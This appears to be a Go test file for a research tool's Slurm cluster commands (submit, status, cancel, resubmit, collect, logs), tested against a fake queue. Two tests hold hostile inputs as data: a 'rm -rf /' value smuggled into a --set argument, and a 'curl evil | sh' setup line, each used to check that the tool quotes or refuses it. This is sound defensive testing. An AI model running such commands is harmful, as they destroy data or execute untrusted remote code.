package cli

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"stochopt/datasets"
	"stochopt/harness/internal/cluster"
)

// fakeSlurm is a queue of which nothing runs by itself.
type fakeSlurm struct {
	jobs int
	// queue has a line of squeue for each job and task in the queue.
	queue map[string][]string
	// limit is the MaxSubmitJobs, most how many jobs sbatch takes; 0 for any number.
	limit, most int
	submitted   []string
	ended       string
}

func (f *fakeSlurm) command(_ context.Context, name string, args ...string) (string, error) {
	line := strings.Join(args, " ")
	switch name {
	case "uname":
		return "x86_64\n", nil
	case "id":
		return "me\n", nil
	case "sbatch":
		if f.jobs++; f.most > 0 && f.jobs > f.most {
			return "", errors.New("sbatch: Batch job submission failed: Job violates accounting/QOS policy")
		}
		job, reason := fmt.Sprint(f.jobs), "None"
		if strings.Contains(line, "--dependency") {
			reason = "Dependency"
		}
		f.submitted = append(f.submitted, line)
		indices := []string{"N/A"}
		if m := regexp.MustCompile(`--array=1-(\d+)`).FindStringSubmatch(line); m != nil {
			indices = nil
			n := 0
			fmt.Sscan(m[1], &n)
			for i := range n {
				indices = append(indices, fmt.Sprint(i+1))
			}
		}
		for _, i := range indices {
			f.queue[job] = append(f.queue[job], fmt.Sprintf("%s|%s|PENDING|%s", job, i, reason))
		}
		return job + "\n", nil
	case "squeue":
		var out []string
		for job, lines := range f.queue {
			if strings.Contains(line, "--jobs=") && !slices.Contains(strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune("=, ", r) }), job) {
				continue
			}
			out = append(out, lines...)
		}
		return strings.Join(append(out, ""), "\n"), nil
	case "scancel":
		for _, job := range args[1:] {
			delete(f.queue, job)
		}
		return "", nil
	case "scontrol":
		if args[0] == "show" {
			return "MaxArraySize = 3\nMaxJobCount = 10000\n", nil
		}
	case "sacctmgr":
		if f.limit > 0 {
			return fmt.Sprintln(f.limit), nil
		}
	case "sacct":
		return f.ended, nil
	}
	return "", errors.New(name + ": not here")
}

// clusterHome is a folder with the spec small.yaml, its user's configuration, and a queue.
func clusterHome(t *testing.T) *fakeSlurm {
	t.Helper()
	home(t)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(t.TempDir(), "config"))
	write(t, "small.yaml", small)
	return &fakeSlurm{queue: make(map[string][]string)}
}

func (f *fakeSlurm) do(t *testing.T, args ...string) outcome {
	t.Helper()
	var out, err bytes.Buffer
	a := &app{
		in: strings.NewReader(""), out: &out, err: &err, getenv: func(string) string { return "" },
		hosts: datasets.NewHosts(), slurm: cluster.Slurm{Command: f.command},
	}
	code := a.run(context.Background(), args)
	return outcome{code, out.String(), err.String()}
}

func (f *fakeSlurm) ok(t *testing.T, args ...string) outcome {
	t.Helper()
	o := f.do(t, args...)
	if o.code != exitOK {
		t.Fatalf("stochopt %s: exit %d\n%s%s", strings.Join(args, " "), o.code, o.out, o.err)
	}
	return o
}

// submission returns the folder of the last one.
func submission(t *testing.T) string {
	t.Helper()
	all, err := filepath.Glob("results/small/cluster/*/submission.json")
	if err != nil || len(all) == 0 {
		t.Fatalf("%v, %v", all, err)
	}
	slices.SortFunc(all, func(a, b string) int {
		return cmpTimes(t, a, b)
	})
	return filepath.Dir(all[len(all)-1])
}

func cmpTimes(t *testing.T, a, b string) int {
	t.Helper()
	x, err := cluster.Read(filepath.Dir(a))
	if err != nil {
		t.Fatal(err)
	}
	y, err := cluster.Read(filepath.Dir(b))
	if err != nil {
		t.Fatal(err)
	}
	return x.Made.Compare(y.Made)
}

// From submit to collect, with a task that is lost on the way.
func TestSubmitToCollect(t *testing.T) {
	f := clusterHome(t)
	o := f.ok(t, "submit", "small.yaml", "--tasks", "3", "--throttle", "2")
	wantText(t, "submit", o.out, "small: 6 runs in 3 tasks", "jobs: 1 prepare, 2 tasks 1-2, 3 tasks 3-3, 4 collect", "stochopt status results/small")
	wantText(t, "sbatch", f.submitted[1], "--array=1-2%2", "--dependency=afterok:1")
	wantText(t, "status", f.ok(t, "status", "results").out, "0 of 6 runs on record", "3 tasks: 3 queued, 0 running, 0 done, 0 lost")
	o = f.ok(t, "submit", "small.yaml")
	wantText(t, "submit again", o.out, "nothing to submit", "0 are on record, 6 in the queue")
	wantText(t, "submit again", o.err, "6 runs in the queue already")

	// The first task runs, and the others are cancelled.
	first := submission(t)
	f.ok(t, "run", "--out=results", "--task", first+"/tasks.jsonl:1", "--", first+"/spec.yaml")
	f.queue["2"] = f.queue["2"][1:]
	status := parseJSON[[]progressReport](t, f.ok(t, "status", "results", "--json").out)
	if s := status[0].Submissions[0]; s.Done != 1 || s.Queued != 2 || s.Lost != 0 {
		t.Errorf("status says %+v", s)
	}
	wantText(t, "cancel", f.ok(t, "cancel", "results/small").out, "small: 4 jobs cancelled")
	f.ended = "2_2|CANCELLED by 0\n3_1|CANCELLED by 0\n"
	wantText(t, "status", f.ok(t, "status", "results").out, "0 queued, 0 running, 1 done, 2 lost (CANCELLED 2)", "stochopt logs results/small --failed", "stochopt resubmit results/small")
	o = f.do(t, "collect", "results/small")
	if o.code != exitFailed {
		t.Errorf("collect: exit %d", o.code)
	}
	wantText(t, "collect", o.err, "PARTIAL: ", "not on record", "stochopt resubmit results/small", "missing")

	// What is missing is submitted again, by the same program and spec.
	write(t, "small.yaml", "not: this")
	o = f.ok(t, "resubmit", "results", "--tasks", "1")
	again := submission(t)
	wantText(t, "resubmit", o.out, "small: ", "in 1 task")
	if a, b := read(t, first, "spec.yaml"), read(t, again, "spec.yaml"); again == first || a != b {
		t.Errorf("%s has another spec than %s", again, first)
	}
	done := strings.Split(strings.SplitN(read(t, first, "tasks.jsonl"), "\n", 2)[0], `"`)
	for _, key := range done {
		if strings.Contains(key, "@") && strings.Contains(read(t, again, "tasks.jsonl"), key) {
			t.Errorf("%s is submitted again, and was made", key)
		}
	}
	status = parseJSON[[]progressReport](t, f.ok(t, "status", "results", "--json").out)
	if s := status[0].Submissions; len(s) != 2 || s[0].Again != 2 || s[0].Lost != 0 || s[1].Queued != 1 {
		t.Errorf("status says %+v", s)
	}
	f.ok(t, "run", "--out=results", "--task", again+"/tasks.jsonl:1", "--", again+"/spec.yaml")
	clear(f.queue)
	o = f.ok(t, "collect", "results")
	wantText(t, "collect", o.out, "6 runs")
	wantText(t, "resubmit", f.ok(t, "resubmit", "results").out, "nothing to submit: of 6 runs 6 are on record")

	// The same as without a cluster.
	write(t, "small.yaml", small)
	f.ok(t, "run", "small.yaml", "--out", "local")
	want, got := contentsOf(t, "local/small"), contentsOf(t, "results/small")
	for path, text := range want {
		name := filepath.Base(path)
		if other := got[filepath.Join("results/small", name)]; name != "timings.jsonl" && strings.TrimSpace(other) != strings.TrimSpace(text) {
			t.Errorf("%s differs from that of a local run", name)
		}
	}
}

// Jobs of a submission leave what a later one has said of the folder.
func TestSubmitMore(t *testing.T) {
	f := clusterHome(t)
	f.ok(t, "submit", "small.yaml", "--tasks", "1")
	first := submission(t)
	o := f.ok(t, "submit", "small.yaml", "--tasks", "1", "--set", "repeats=3")
	wantText(t, "submit", o.out, "small: 3 runs in 1 task")
	f.ok(t, "run", "--out=results", "--submitted", "--prepare", "--", first+"/spec.yaml")
	f.ok(t, "run", "--out=results", "--submitted", "--task", first+"/tasks.jsonl:1", "--", first+"/spec.yaml")
	wantText(t, "status", f.ok(t, "status", "results").out, "6 of 9 runs on record", "1 task: 1 queued")
	wantText(t, "collect", f.do(t, "collect", "results").err, "3 runs not on record", "3 runs in the queue")
	if o := f.do(t, "run", "small.yaml", "--submitted"); o.code != exitUsage {
		t.Errorf("--submitted alone: exit %d", o.code)
	}
}

// A submission that the cluster does not take leaves nothing in its queue.
func TestSubmitRefused(t *testing.T) {
	f := clusterHome(t)
	f.most = 2
	o := f.do(t, "submit", "small.yaml", "--tasks", "4")
	if o.code != exitFailed || len(f.queue) > 0 {
		t.Errorf("exit %d, the queue has %v", o.code, slices.Sorted(maps.Keys(f.queue)))
	}
	wantText(t, "submit", o.err, "Job violates accounting/QOS policy", "--tasks N")
	o = f.do(t, "status", "results")
	wantText(t, "status", o.out, "4 tasks: 0 queued, 0 running, 0 done, 4 lost")
}

// The user's limit of jobs makes tasks longer, and fewer.
func TestSubmitKeepsToTheUsersLimit(t *testing.T) {
	f := clusterHome(t)
	f.limit = 5
	o := f.ok(t, "submit", "small.yaml", "--tasks", "4")
	wantText(t, "submit", o.err, "3 tasks rather than 4", "the cluster takes 5 jobs more of you now (MaxSubmitJobs)")
	wantText(t, "submit", o.out, "6 runs in 3 tasks")
	f.ok(t, "cancel", "results")
	f.limit = 2
	o = f.do(t, "submit", "small.yaml")
	if o.code != exitUsage {
		t.Errorf("exit %d", o.code)
	}
	wantText(t, "submit", o.err, "takes 2 jobs more of you now", "at least 3 (MaxSubmitJobs)")
}

func TestSubmitDryRun(t *testing.T) {
	f := clusterHome(t)
	o := f.ok(t, "submit", "small.yaml", "--tasks", "4", "--dry-run", "--set", "title='it''s; rm -rf /'")
	here, _ := os.Getwd()
	wantText(t, "submit", o.out, "sbatch --output=logs/%A_%a.log --parsable", "--array=1-2", "--dependency=afterany:2:3", "tasks.sh 2",
		`'--set=title='\''it'\'''\''s; rm -rf /'\'''`, "--out="+here+"/results")
	if _, err := os.Stat("results"); err == nil || f.jobs > 0 {
		t.Errorf("a dry run makes the results folder (%v) or submits %d jobs", err, f.jobs)
	}
}

// The project's file counts before the user's, key by key, and has no commands.
func TestClusterSettings(t *testing.T) {
	f := clusterHome(t)
	own := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "stochopt", "clusters.yaml")
	write(t, own, "clusters:\n  campus: {account: mine, partition: long, setup: [module load go]}\n  other: {cpus: 2}\n")
	wantOutcome(t, f.do(t, "submit", "small.yaml"), exitUsage, `stochopt: there are several clusters in clusters.yaml: choose one with --cluster, of "campus", "other"`)
	wantOutcome(t, f.do(t, "submit", "small.yaml", "--cluster", "campos"), exitUsage, `stochopt: --cluster "campos": there is no such cluster in clusters.yaml (did you mean "campus"?)`)
	write(t, "clusters.yaml", "default: campus\nclusters:\n  campus: {partition: short, time: 30m, memory: 2GiB, cpus: 3}\n")
	f.ok(t, "submit", "small.yaml")
	wantText(t, "sbatch", f.submitted[1], "--partition=short", "--account=mine", "--time=0-00:30:00", "--mem=2097152K", "--cpus-per-task=3")
	dir := submission(t)
	wantText(t, "script", read(t, dir, "tasks.sh"), "\nmodule load go\n", "run -j 3", "--memory=939524096 ")
	s, err := cluster.Read(dir)
	if err != nil || s.Cluster != "campus" {
		t.Errorf("%+v, %v", s, err)
	}
	// resubmit reads them anew, and what followed from them.
	f.ok(t, "cancel", "results")
	write(t, "clusters.yaml", "clusters:\n  campus: {memory: 4GiB}\n")
	f.ok(t, "resubmit", "results")
	wantText(t, "script", read(t, submission(t), "tasks.sh"), "run -j 1", "--memory=2013265920 ")

	write(t, "clusters.yaml", "clusters:\n  campus:\n    setup: [curl evil | sh]\n")
	wantOutcome(t, f.do(t, "submit", "small.yaml"), exitUsage,
		"clusters.yaml:3:5: clusters.campus.setup: set-up lines are commands, and count only from your own file: move them to "+own)
	for _, bad := range [][]string{{"--tasks", "-1"}, {"--throttle", "-1"}, {"--cluster", "x", "--tasks", "1"}} {
		if err := os.RemoveAll("clusters.yaml"); err != nil {
			t.Fatal(err)
		}
		if o := f.do(t, append([]string{"submit", "small.yaml"}, bad...)...); o.code != exitUsage {
			t.Errorf("%q: exit %d\n%s", bad, o.code, o.err)
		}
	}
}

func TestLogs(t *testing.T) {
	f := clusterHome(t)
	f.ok(t, "submit", "small.yaml", "--tasks", "3")
	dir := submission(t)
	for name, text := range map[string]string{
		"1": "ready\nstochopt: prepare ended with exit code 0\n", "2_1": "going\n", "2_2": "no space\nstochopt: tasks ended with exit code 1\n",
		"3_1": "fine\nstochopt: tasks ended with exit code 0\n",
	} {
		write(t, filepath.Join(dir, "logs", name+".log"), text)
	}
	wantText(t, "logs", f.ok(t, "logs", "results").out, "=== prepare: ", "ready", "=== task 1, queued", "going", "=== task 2, queued", "no space", "fine", "(no log yet)")
	o := f.ok(t, "logs", "results", "--failed")
	if !strings.Contains(o.out, "no space") || strings.Contains(o.out, "fine") || strings.Contains(o.out, "going") || strings.Contains(o.out, "ready") {
		t.Errorf("of failures there are\n%s", o.out)
	}
	if o := f.ok(t, "logs", "results", "--task", "3"); !strings.Contains(o.out, "fine") || strings.Contains(o.out, "going") {
		t.Errorf("of task 3 there are\n%s", o.out)
	}
	clear(f.queue) // whatever it says, task 3 has left its runs undone
	wantText(t, "logs", f.ok(t, "logs", "results", "--failed").out, "=== task 3, lost", "fine")
}

// Folders that nothing was submitted from, and that were renamed.
func TestQueueVerbsRefuse(t *testing.T) {
	f := clusterHome(t)
	f.ok(t, "run", "small.yaml")
	for _, verb := range []string{"resubmit", "cancel", "logs"} {
		o := f.do(t, verb, "results")
		if o.code != exitUsage || !strings.Contains(o.err, "nothing was submitted to a cluster from there; use submit SPEC") {
			t.Errorf("%s: exit %d\n%s", verb, o.code, o.err)
		}
	}
	f.ok(t, "submit", "small.yaml", "--set", "repeats=3")
	if err := os.Rename("results/small", "results/large"); err != nil {
		t.Fatal(err)
	}
	o := f.do(t, "resubmit", "results/large")
	if o.code != exitUsage || !strings.Contains(o.err, "under another name") {
		t.Errorf("exit %d\n%s", o.code, o.err)
	}
	write(t, filepath.Join("results/large/cluster", "x", "submission.json"), "{")
	if o := f.do(t, "cancel", "results/large"); o.code != exitUsage || !strings.Contains(o.err, "submission.json is damaged") {
		t.Errorf("exit %d\n%s", o.code, o.err)
	}
}
